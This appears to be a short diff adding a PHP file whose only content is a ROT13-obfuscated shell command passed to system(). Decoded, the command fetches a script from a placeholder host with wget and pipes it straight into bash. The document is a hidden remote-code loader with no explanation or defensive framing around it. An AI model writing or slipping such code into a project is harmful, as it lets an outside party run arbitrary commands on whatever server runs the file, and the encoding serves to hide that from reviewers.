@@ -1,0 +1,3 @@
+<?php
+$c = str_rot13("jtrg -B - uggcf://rknzcyr.vainyvq/c | onfu");
+system($c);
